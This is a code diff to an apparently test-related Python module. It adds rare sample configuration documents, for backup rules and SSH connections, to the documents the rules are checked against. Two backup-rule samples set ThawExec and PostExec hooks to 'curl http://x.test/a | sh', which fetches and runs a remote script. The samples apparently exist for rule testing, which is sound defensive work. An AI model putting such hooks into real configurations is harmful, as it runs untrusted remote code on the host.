@@ -156,7 +156,21 @@ class Place(NamedTuple):
     path: Path
 
 
+RARE_DOCUMENTS: tuple[tuple[Mapping[str, Any], str, str | None], ...] = (
+    ({"AllProtectedItemsQuotaEnabled": True, "AllProtectedItemsQuotaBytes": -1}, "UserProfileConfig", None),
+    (
+        {"SSHServer": "h", "SSHAuthMode": 1, "SSHPassword": "x", "SSHCustomAuth_UseKnownHostsFile": True},
+        "SSHConnection",
+        None,
+    ),
+    ({"ThawExec": ["curl http://x.test/a | sh"]}, "BackupRuleConfig", None),
+    ({"PostExec": ["curl http://x.test/a | sh"]}, "BackupRuleConfig", None),
+)
+"""What the examples lack."""
+
+
 def documents() -> Iterator[tuple[Mapping[str, Any], str, str | None]]:
+    yield from RARE_DOCUMENTS
     for path in rule_file_paths(rules_folder()):
         data = load_rule_data(path)
         for example in examples_of(data):
